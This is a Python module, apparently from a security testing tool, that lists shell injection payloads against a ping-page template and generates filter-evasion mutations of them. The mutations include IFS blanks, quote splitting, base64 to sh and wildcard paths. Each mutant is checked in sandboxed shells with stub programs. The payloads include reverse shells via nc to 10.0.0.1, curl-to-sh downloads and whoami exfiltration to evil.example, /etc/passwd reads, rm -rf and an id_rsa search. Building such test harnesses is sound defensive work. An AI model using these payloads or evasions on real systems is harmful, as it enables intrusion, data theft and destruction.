"""Shell injection: payloads, mutations, and what `sh` and `bash` run of them.

The templates are those of a page that pings a host. Every program is one of ours that says
its name and arguments, so nothing happens; those that only print are also run. A mutant
lives where a shell runs for it what it ran for the payload it was made of.
"""

from __future__ import annotations

import base64
import os
import re
import resource
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from text import PROSE, fixed

TEMPLATES = {
    "bare": "ping -c 1 {}",
    "double": 'ping -c 1 "{}"',
    "single": "ping -c 1 '{}'",
    "middle": "convert {} out.png",
}
PRINTS = ("cat", "id", "whoami", "uname", "head", "grep", "base64", "echo", "hostname", "rev", "tr")
SAYS = (  # noqa: SIM905 -- words
    "ping convert curl wget nc sleep nslookup python3 perl rm chmod touch ps tee ls env "
    "printenv find node php ruby telnet ifconfig netstat nmap ftp tftp"
).split()
SHELLS = ("sh", "bash")

BASES = [
    ("bare", ";id"),
    ("bare", "127.0.0.1;id"),
    ("bare", "127.0.0.1; cat /etc/passwd"),
    ("bare", "| cat /etc/passwd"),
    ("bare", "|| whoami"),
    ("bare", "127.0.0.1 && whoami"),
    ("bare", "& id &"),
    ("bare", "`id`"),
    ("bare", "$(id)"),
    ("bare", "$(cat /etc/passwd)"),
    ("bare", "127.0.0.1\nid"),
    ("bare", "127.0.0.1\ncat /etc/passwd"),
    ("bare", "; ls -la /"),
    ("bare", "; uname -a"),
    ("bare", "| uname -a"),
    ("bare", "; curl http://evil.example/x.sh | sh"),
    ("bare", "; wget http://evil.example/x.sh -O /tmp/x"),
    ("bare", "; nc -e /bin/sh 10.0.0.1 4444"),
    ("bare", "& nc 10.0.0.1 4444 -e /bin/bash"),
    ("bare", "; sleep 5"),
    ("bare", "127.0.0.1 && sleep 10"),
    ("bare", "| sleep 5"),
    ("bare", "$(sleep 5)"),
    ("bare", "`sleep 5`"),
    ("bare", "; python3 -c 'import os'"),
    ("bare", "; perl -e 'print 1'"),
    ("bare", "; php -r 'phpinfo();'"),
    ("bare", "; echo pwned"),
    ("bare", "; env"),
    ("bare", "| printenv"),
    ("bare", "; bash -c 'id'"),
    ("bare", "; sh -c whoami"),
    ("bare", "; /bin/cat /etc/passwd"),
    ("bare", "; ping -c 3 evil.example"),
    ("bare", "; nslookup `whoami`.evil.example"),
    ("bare", "; curl http://evil.example/$(whoami)"),
    ("bare", "$(curl http://evil.example/`whoami`)"),
    ("bare", "; cat /etc/hosts | head -1"),
    ("bare", "; ps aux"),
    ("bare", "| ifconfig"),
    ("bare", "; netstat -an"),
    ("bare", "; rm -rf /var/www"),
    ("bare", "; chmod 777 /etc/passwd"),
    ("bare", "; touch /tmp/pwned"),
    ("bare", "; find / -name id_rsa"),
    ("bare", "; grep root /etc/passwd"),
    ("bare", "; head -1 /etc/passwd"),
    ("bare", "|cat /etc/group"),
    ("double", '";id;"'),
    ("double", '"; id #'),
    ("double", "$(id)"),
    ("double", "`whoami`"),
    ("double", '" && whoami && "'),
    ("double", '"|cat /etc/passwd #'),
    ("single", "';id;'"),
    ("single", "'; id #"),
    ("single", "' && whoami && '"),
    ("single", "'|cat /etc/passwd #"),
    ("middle", "x.png; id;"),
    ("middle", "$(cat /etc/passwd)"),
    ("middle", "`cat /etc/passwd`"),
]

COMMAND = re.compile(
    r"(?<![\w/.=-])(?:"
    + "|".join(("id", "whoami", "cat", "uname", "head", "grep", *SAYS))
    + r")(?![\w.=-])"
)
#: where the value puts an argument behind a command
ARGUMENT = re.compile(r"(?<=[a-z]) (?=[-/\w])")
FILE = re.compile(r"/etc/(passwd|group|hosts)")


def _commands(payload: str, written: str) -> str:
    """Every command, written so: `{}` is its name, `{0}` and `{1}` its halves."""

    def other(found: re.Match[str]) -> str:
        name = found[0]
        if name == "ping" and found.start() == 0:
            return name
        return written.replace("{}", name).replace("{0}", name[:1]).replace("{1}", name[1:])

    return COMMAND.sub(other, payload)


def _separator(payload: str, other: str) -> str:
    return re.sub(r"\s*(?:;|\|\||&&|\||&|\n)\s*", fixed(other), payload, count=1)


def _whole(payload: str) -> tuple[str, str, str] | None:
    """What is before the first command, the command with its arguments, the rest."""
    found = re.match(r"^([^;|&\n]*(?:;|\|\||&&|\||&|\n)\s*)([^;|&\n#\"]+)(.*)$", payload, re.S)
    if not found or not found[2].strip() or "'" in found[2]:
        return None
    return found[1], found[2].strip(), found[3]


def mutants(context: str, payload: str) -> Iterator[tuple[str, str]]:
    """What a payload becomes, by the name of the mutation."""
    for name, written in (
        ("quotes inside", "{0}''{1}"),
        ("quotes around a letter", "'{0}'{1}"),
        ("double quotes inside", '{0}""{1}'),
        ("a backslash", "{0}\\{1}"),
        ("a backslash before", "\\{}"),
        ("an empty parameter", "{0}$@{1}"),
        ("an empty numbered parameter", "{0}$1{1}"),
        ("an unset variable", "{0}${x}{1}"),
        ("an empty substitution", "{0}$(){1}"),
        ("empty backticks", "{0}``{1}"),
        ("ANSI quotes", "$'{0}'{1}"),
        ("through command", "command {}"),
        ("through exec", "exec {}"),
        ("through eval", "eval {}"),
        ("an assignment before", "x=1 {}"),
        ("a redirection before", "</dev/null {}"),
        ("quoted whole", '"{}"'),
    ):
        yield name, _commands(payload, written)
    yield (
        "ANSI escapes",
        COMMAND.sub(lambda f: "$'" + "".join(f"\\x{ord(c):02x}" for c in f[0]) + "'", payload),
    )
    yield (
        "octal escapes",
        COMMAND.sub(lambda f: "$'" + "".join(f"\\{ord(c):o}" for c in f[0]) + "'", payload),
    )
    for name, blank in (
        ("IFS", "${IFS}"),
        ("IFS without braces", "$IFS"),
        ("IFS and a parameter", "$IFS$9"),
        ("tabs", "\t"),
        ("many blanks", "   "),
        ("escaped line ends", " \\\n"),
    ):
        yield name, ARGUMENT.sub(fixed(blank), payload)
    yield (
        "braces",
        re.sub(
            r"\b(cat|head|grep|uname|sleep|rm|ls|chmod) ([-\w/ ]+?)(?=$| #|[)`;|])",
            lambda f: "{" + f[1] + "," + ",".join(f[2].split()) + "}",
            payload,
        ),
    )
    yield "a redirection for a blank", re.sub(r"cat (/etc/\w+)", r"cat<\1", payload)
    yield "a redirection, quotes", re.sub(r"cat (/etc/\w+)", r"c'a't<\1", payload)
    yield "question marks", FILE.sub(lambda f: f"/etc/{f[1][:-2]}??", payload)
    yield "stars", FILE.sub(lambda f: f"/e*/{f[1][:4]}*{f[1][-1]}", payload)
    yield "brackets of names", FILE.sub(lambda f: f"/etc/[{f[1][0]}]{f[1][1:]}", payload)
    yield "doubled slashes", FILE.sub(r"//etc/./\1", payload)
    yield "quotes in the path", FILE.sub(lambda f: f"/e't'c/{f[1][0]}\"{f[1][1:]}\"", payload)
    yield "steps in the path", FILE.sub(r"/etc/../etc/\1", payload)
    yield "a slash from a variable", FILE.sub(r"${PWD%%[!/]*}etc/\1", payload)
    yield (
        "absolute",
        re.sub(r"(?<![\w/])(cat|head|grep|id|whoami|uname)\b", r"/usr/bin/\1", payload),
    )
    yield "absolute with a question mark", re.sub(r"(?<![\w/])(c)(a)(t)\b", r"/bin/\1?\3", payload)
    yield "absolute with stars", re.sub(r"(?<![\w/])(who)(ami)\b", r"/usr/bin/\1*i", payload)
    yield "a variable for the command", _split(payload)
    yield "both quotes and IFS", ARGUMENT.sub("${IFS}", _commands(payload, "{0}''{1}"))
    yield "backslash and tab", ARGUMENT.sub("\t", _commands(payload, "{0}\\{1}"))
    for name, separator in (
        ("a semicolon", ";"),
        ("a line end", "\n"),
        ("CR LF", "\r\n"),
        ("and", "&&"),
        ("or", "||"),
        ("a pipe", "|"),
        ("background", "&"),
        ("a pipe of both", "|&"),
        ("separator without blanks", " ; "),
    ):
        yield f"separated by {name}", _separator(payload, separator)
    whole = _whole(payload)
    if whole:
        before, command, rest = whole
        encoded = base64.b64encode(command.encode()).decode()
        for name, written in (
            ("a sub-shell", f"({command})"),
            ("a group", "{ " + command + "; }"),
            ("an if", f"if true;then {command};fi"),
            ("a loop", f"for x in 1;do {command};done"),
            ("base64 to sh", f"echo {encoded}|base64 -d|sh"),
            ("base64 in a substitution", f"$(echo {encoded}|base64 -d)"),
            ("sh -c", f"sh -c '{command}'"),
            ("bash's here string", f"bash<<<'{command}'"),
            ("base64 to bash", f"bash<<<$(base64 -d<<<{encoded})"),
            ("printf of hex", "$(printf '" + "".join(f"\\{ord(c):o}" for c in command) + "')"),
            ("reversed", f"$(rev<<<'{command[::-1]}')"),
            ("upper case lowered", f"$(tr A-Z a-z<<<'{command.upper()}')"),
            ("errors too", f"{command} 2>&1"),
            ("a substitution", f"echo $({command})"),
            ("a comment after", f"{command} #"),
            ("prose after", f"{command} # {PROSE}"),
            ("a variable with all", f"x='{command}';$x"),
            ("negated", f"! {command}"),
            ("timed", f"time {command}"),
        ):
            yield name, before + written + ("" if "prose" in name else rest)
    if context != "middle":
        yield "prose before", PROSE + payload
        yield "prose before, quotes inside", PROSE + _commands(payload, "{0}''{1}")


def _split(payload: str) -> str:
    """`;id` as `;a=i;$a''d`."""
    found = re.search(r"(?:;|&&|\n)\s*([a-z]\w+)\b", payload)
    if not found:
        return payload
    name = found[1]
    return payload[: found.start(1)] + f"a={name[0]};${{a}}{name[1:]}" + payload[found.end(1) :]


def _bounded() -> None:
    for what, most in (
        (resource.RLIMIT_CPU, 2),
        (resource.RLIMIT_FSIZE, 1 << 16),
        (resource.RLIMIT_CORE, 0),
    ):
        resource.setrlimit(what, (most, most))


class Live:
    """Shells in a folder of our own programs."""

    def __init__(self) -> None:
        self.folder = Path(tempfile.mkdtemp(prefix="doorward-sh-"))
        programs = self.folder / "bin"
        programs.mkdir()
        for name in (*PRINTS, *SAYS, "sh", "bash", "printf"):
            real = shutil.which(name)
            run = f'exec {real} "$@"' if name in (*PRINTS, "sh", "bash", "printf") and real else ":"
            # as the real one without a host
            run = "[ $# -gt 2 ]" if name == "ping" else run
            silent = ("sh", "bash", "printf", "echo", "base64", "rev", "tr", "convert")
            # in one write, so that two at once do not mix
            said = "" if name in silent else f'printf "%s\\n" "RAN {name} $*" >&2\n'
            (programs / name).write_text(f"#!/bin/sh\n{said}{run}\n")
            (programs / name).chmod(0o755)
        self.run_as: dict[str, Any] = {}
        if os.geteuid() == 0:
            self.run_as = {"user": "nobody", "group": "nogroup", "extra_groups": []}
        self.folder.chmod(0o755)
        # writable, and empty again for each
        self.room = self.folder / "room"
        self.room.mkdir(mode=0o777)
        self.room.chmod(0o777)
        asked = ["/bin/bash", "--version"]
        version = subprocess.run(asked, capture_output=True, text=True, check=True)  # noqa: S603 -- ours
        self.engines = ["sh", "bash " + version.stdout.split()[3].split("(")[0]]
        self.kept: dict[tuple[str, str, str], set[str] | None] = {}

    def _ran(self, shell: str, context: str, payload: str) -> set[str] | None:
        """What was run and printed, besides what the template itself runs."""
        if "\0" in payload:
            return None
        command = TEMPLATES[context].replace("{}", payload)
        try:
            ran = subprocess.run(  # noqa: S603 -- the point of it
                [f"/bin/{shell}", "-c", command],
                env={"PATH": str(self.folder / "bin"), "PWD": "/"},
                cwd=self.room,
                capture_output=True,
                stdin=subprocess.DEVNULL,
                timeout=5,
                preexec_fn=_bounded,
                **self.run_as,
            )
        except subprocess.TimeoutExpired:
            return None
        said = {
            line.removeprefix("RAN ")
            for line in ran.stderr.decode(errors="replace").splitlines()
            if line.startswith("RAN ") and not line.startswith(("RAN ping -c 1", "RAN convert"))
        }
        printed = {f"> {line}" for line in ran.stdout.decode(errors="replace").splitlines() if line}
        return said | printed

    def check(self, cases: list[tuple[str, str, str]]) -> list[bool]:
        """Of each context, base and mutant: whether the mutant runs what the base runs."""
        from concurrent.futures import ThreadPoolExecutor

        with ThreadPoolExecutor(2) as pool:
            return list(pool.map(lambda case: self._one(*case), cases))

    def _one(self, context: str, base: str, mutant: str) -> bool:
        for shell in SHELLS:
            key = (shell, context, base)
            if key not in self.kept:
                self.kept[key] = self._ran(*key)
            wanted = self.kept[key]
            found = wanted and self._ran(shell, context, mutant)
            if wanted and found:
                said = {line for line in wanted if not line.startswith("> ")}
                printed = wanted - said
                # by another name it prints the same; by its own it may print elsewhere
                if (said and said <= found) or (printed and printed <= found):
                    return True
        return False

    def close(self) -> None:
        shutil.rmtree(self.folder)
